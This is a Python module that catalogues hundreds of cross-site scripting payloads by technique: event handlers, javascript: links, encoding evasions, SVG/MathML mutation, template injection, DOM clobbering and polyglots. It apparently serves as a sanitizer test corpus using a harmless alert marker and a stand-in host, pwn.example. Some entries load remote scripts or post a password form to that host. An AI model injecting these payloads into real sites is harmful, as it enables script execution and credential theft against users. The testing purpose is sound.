"""Cross-site scripting payloads, by technique.

A payload that works sets ``pwned``, opens a dialog, requests a URL of a host that does not exist, or leaves an element
with a mark.
"""

from __future__ import annotations

ACT = "alert(pwned=1)"
MARK = "data-pwn"
NOWHERE = "//pwn.example"

_HANDLERS = """
img src=x onerror | img src onerror | image src=x onerror | video src=x onerror | audio src=x onerror | body onload
body onpageshow | body onhashchange | body onfocus | body onresize | svg onload | svg/onload | iframe onload
object onerror | embed onload
input autofocus onfocus | select autofocus onfocus | textarea autofocus onfocus | keygen autofocus onfocus
button autofocus onfocus | a autofocus tabindex=1 onfocus | div contenteditable autofocus onfocus
details open ontoggle | marquee onstart | marquee loop=1 width=0 onfinish | div onpointerover | div onmouseover
div onwheel | div onanimationstart
div style=transition:all ontransitionend | link rel=stylesheet href=x onerror | style onload | script src=x onerror
track onerror | source onerror | form oninput | form onsubmit | dialog open onclose | input type=image src=x onerror
video poster=x onloadstart | frameset onload | math onfocus | xss tabindex=1 autofocus onfocus
table background=x onerror
""".replace("\n", "|")
_LINKS = """
javascript:ACT | JaVaScRiPt:ACT | java&#10;script:ACT | java&Tab;script:ACT | &#106;avascript:ACT | &#x6A;avascript:ACT
javascript&colon;ACT | javascript:/**/ACT | javascript://%0aACT | javascript:void(ACT) | vbscript:msgbox(1)
data:text/html,<script>ACT</script> | data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== | feed:javascript:ACT
view-source:javascript:ACT | blob:javascript:ACT | jar:javascript:ACT | //pwn.example/%2e%2e | \\\\pwn.example
""".replace("\n", "|")
_AROUND = """
"> | '> | `> | --> | ]]> | </title> | </textarea> | </style> | </script> | </template> | </noscript> | </xmp>
</iframe>
\\"> | \\'> | "/> | %22%3E | &quot;&gt; | "]}> | \u2028> | "\u0009>
""".replace("\n", "|")


def _split(text: str) -> list[str]:
    return [part.strip() for part in text.split("|") if part.strip()]


SCRIPTS = [
    f"<script {MARK}>{ACT}</script>",
    f"<SCRIPT {MARK}>{ACT}</SCRIPT>",
    f"<ScRiPt {MARK}>{ACT}</sCrIpT>",
    f"<script {MARK} src={NOWHERE}/x.js></script>",
    f"<script {MARK} src=data:text/javascript,{ACT}></script>",
    f"<script {MARK} type=module>import '{NOWHERE}/x.js'</script>",
    f"<script {MARK} type=text/javascript>{ACT}</script>",
    f"<script {MARK} async defer>{ACT}</script>",
    f"<script/{MARK}/x>{ACT}</script>",
    f"<script {MARK}>{ACT}//",
    f"<script {MARK}\t>{ACT}</script\t>",
    f"<<script {MARK}>{ACT}//<</script>",
    f"<scr<script {MARK}>ipt>{ACT}</scr</script>ipt>",
    f"<script {MARK} nonce=>{ACT}</script>",
    f"<script {MARK} nonce=__TOMPION_NONCE__>{ACT}</script>",
    f"<script {MARK} type=importmap>{{}}</script>",
    f"<script {MARK} type=speculationrules>{{}}</script>",
    f"<noscript><p title='</noscript><img {MARK} src=x onerror={ACT}>'>",
]
HANDLERS = [f"<{text.replace(' ', f' {MARK} ', 1)}={ACT}>" for text in _split(_HANDLERS)]
LINKS = [f"<a {MARK} href='{text.replace('ACT', ACT)}'>x</a>" for text in _split(_LINKS)]
BARE_LINKS = [text.replace("ACT", ACT) for text in _split(_LINKS)]
BREAKING_OUT = [f"{text}<img {MARK} src=x onerror={ACT}>" for text in _split(_AROUND)]
ATTRIBUTES = [
    f"{quote} {MARK} {handler}={quote}{ACT}{quote} x={quote}"
    for quote in ('"', "'", "`")
    for handler in ("onmouseover", "autofocus onfocus", "style=animation-name:x onanimationstart")
]
STRINGS = [
    f"';{ACT};//",
    f'";{ACT};//',
    f"`;{ACT};//",
    f"${{{ACT}}}",
    f"\\';{ACT};//",
    f"'-{ACT}-'",
    f'"-{ACT}-"',
    f"');{ACT};('",
    f"'}});{ACT};({{'",
    f"</script><script {MARK}>{ACT}</script>",
    f"\u2028{ACT}//",
    f"*/{ACT}/*",
    '{"__proto__": {"pwned": 1}}',
    '{"constructor": {"prototype": {"pwned": 1}}}',
    "__proto__",
    "constructor.prototype",
]
MALFORMED = [
    f"<img {MARK} src=x onerror={ACT}//",
    f"<img {MARK} src=x onerror\n=\n{ACT}>",
    f"<img {MARK}\x0csrc=x\x0conerror={ACT}>",
    f"<img {MARK} src='x'onerror={ACT}>",
    f'<img """><script {MARK}>{ACT}</script>">',
    f"<img/{MARK}/src=x/onerror={ACT}>",
    f"<!--><img {MARK} src=x onerror={ACT}>-->",
    f"<![CDATA[<img {MARK} src=x onerror={ACT}>]]>",
    f"<?xml version='1.0'?><img {MARK} src=x onerror={ACT}>",
    f"<!DOCTYPE x [<!ENTITY y '<img {MARK} src=x onerror={ACT}>'>]>&y;",
    f"&lt;img {MARK} src=x onerror={ACT}&gt;",
    f"&amp;lt;img {MARK} src=x onerror={ACT}&amp;gt;",
    f"%3Cimg%20{MARK}%20src=x%20onerror={ACT}%3E",
    f"%253Cimg {MARK} src=x onerror={ACT}%253E",
    f"\\u003cimg {MARK} src=x onerror={ACT}\\u003e",
    f"\\x3cimg {MARK} src=x onerror={ACT}\\x3e",
    f"+ADw-img {MARK} src=x onerror={ACT}+AD4-",
    f"\uff1cimg {MARK} src=x onerror={ACT}\uff1e",
    f"\u2039img {MARK} onerror={ACT}\u203a",
    f"<\ufeffimg {MARK} src=x onerror={ACT}>",
    f"<im\u200bg {MARK} src=x onerror={ACT}>",
    f"<img {MARK} src=x on\u212aeydown={ACT}>",
]
FOREIGN = [
    f"<svg {MARK}><script>{ACT}</script></svg>",
    f"<svg {MARK}><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg {MARK}><set attributeName=onmouseover to={ACT}>",
    f"<svg {MARK}><a xlink:href=javascript:{ACT}><text>x</text></a>",
    f"<svg {MARK}><use href='data:image/svg+xml,<svg id=x onload={ACT}>#x'>",
    f"<svg {MARK}><foreignObject><img src=x onerror={ACT}>",
    f"<svg {MARK}><style><img src=x onerror={ACT}></style>",
    f"<math {MARK}><mtext><img src=x onerror={ACT}>",
    f"<math {MARK} href=javascript:{ACT}>x</math>",
    f"<math><mi {MARK} xlink:href=javascript:{ACT}>x",
    f"<form><math><mtext></form><form><mglyph><style></math><img {MARK} src=x onerror={ACT}>",
    f"<table><td><svg><desc><b><a {MARK} onclick={ACT}>",
    f"<svg><p><style><g title='</style><img {MARK} src=x onerror={ACT}>'>",
    f"<template {MARK}><img src=x onerror={ACT}></template>",
    f"<div {MARK} is=x-y onclick={ACT}>",
    f"<slot {MARK} onslotchange={ACT}>",
]
FRAMEWORKS = [
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    f"{{{{{ACT}}}}}",
    f"[[{ACT}]]",
    f"<%= {ACT} %>",
    f"#{{{ACT}}}",
    f"*{{{ACT}}}",
    f"<div {MARK} ng-app ng-csp>{{{{$on.constructor('{ACT}')()}}}}</div>",
    f"<div {MARK} v-html=\"'<img src=x onerror={ACT}>'\">",
    f"<div {MARK} x-data x-init={ACT}>",
    f"<div {MARK} hx-get={NOWHERE} hx-trigger=load>",
    "{{7*7}}",
    "${7*7}",
    "{%raw%}{{x}}",
    f'{{"$$typeof":"Symbol(react.element)","type":"img","props":{{"src":"x","onError":"{ACT}"}}}}',
    f'{{"dangerouslySetInnerHTML":{{"__html":"<img {MARK} src=x onerror={ACT}>"}}}}',
]
ELEMENTS = [
    f"<iframe {MARK} src=javascript:{ACT}>",
    f"<iframe {MARK} srcdoc='<script>{ACT}</script>'>",
    f"<iframe {MARK} src={NOWHERE}>",
    f"<object {MARK} data=javascript:{ACT}>",
    f"<object {MARK} data=data:text/html,<script>{ACT}</script>>",
    f"<embed {MARK} src=javascript:{ACT}>",
    f"<embed {MARK} src={NOWHERE}/x.swf>",
    f"<base {MARK} href={NOWHERE}/>",
    f"<meta {MARK} http-equiv=refresh content='0;url={NOWHERE}'>",
    f"<meta {MARK} http-equiv=refresh content='0;url=javascript:{ACT}'>",
    f"<meta {MARK} http-equiv=Content-Security-Policy content='script-src *'>",
    f"<link {MARK} rel=stylesheet href={NOWHERE}/x.css>",
    f"<link {MARK} rel=import href={NOWHERE}/x.html>",
    f"<link {MARK} rel=prefetch href={NOWHERE}>",
    f"<style {MARK}>@import '{NOWHERE}/x.css';</style>",
    f"<style {MARK}>*{{display:none}}</style>",
    f"<div {MARK} style=background:url({NOWHERE}/x.png)>",
    f'<div {MARK} style="width:expression({ACT})">',
    f"<div {MARK} style=-moz-binding:url({NOWHERE}/x.xml)>",
    f"<form {MARK} action=javascript:{ACT}><button>Sign in</button></form>",
    f"<form {MARK} action={NOWHERE}><input name=password type=password></form>",
    f"<button {MARK} formaction=javascript:{ACT}>x</button>",
    f"<isindex {MARK} action=javascript:{ACT} type=image>",
    f"<applet {MARK} code=x>",
    f"<portal {MARK} src={NOWHERE}>",
    f"<img {MARK} src={NOWHERE}/x.png>",
    f"<img {MARK} srcset='{NOWHERE}/x.png 1x'>",
    f"<video {MARK} src={NOWHERE}/x.mp4 autoplay>",
    f"<a {MARK} href={NOWHERE} ping={NOWHERE}>x</a>",
    f"<plaintext {MARK}>",
    f"<xmp {MARK}>",
    f"<textarea {MARK}>",
    f"<!-- {MARK}",
]
CLOBBERING = [
    f"<a {MARK} id=root>",
    f"<img {MARK} name=getElementById>",
    f"<form {MARK} id=document><input name=body>",
    f"<a {MARK} id=trustedTypes><a id=trustedTypes name=createPolicy>",
    f"<img {MARK} name=cookie>",
    f"<a {MARK} id=location href={NOWHERE}>",
]
POLYGLOTS = [
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={ACT} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        f"\\x3csVg/<sVg/oNloAd={ACT}//>"
    ),
    f"\">'><details {MARK} open ontoggle={ACT}>-->*/{ACT}/*",
    f"'\"--></style></script><svg {MARK} onload={ACT}>",
    f"{{{{1}}}}${{1}}<%1%>'\"`><img {MARK} src=x onerror={ACT}>",
]
ALL = [
    *SCRIPTS,
    *HANDLERS,
    *LINKS,
    *BARE_LINKS,
    *BREAKING_OUT,
    *ATTRIBUTES,
    *STRINGS,
    *MALFORMED,
    *FOREIGN,
    *FRAMEWORKS,
    *ELEMENTS,
    *CLOBBERING,
    *POLYGLOTS,
]
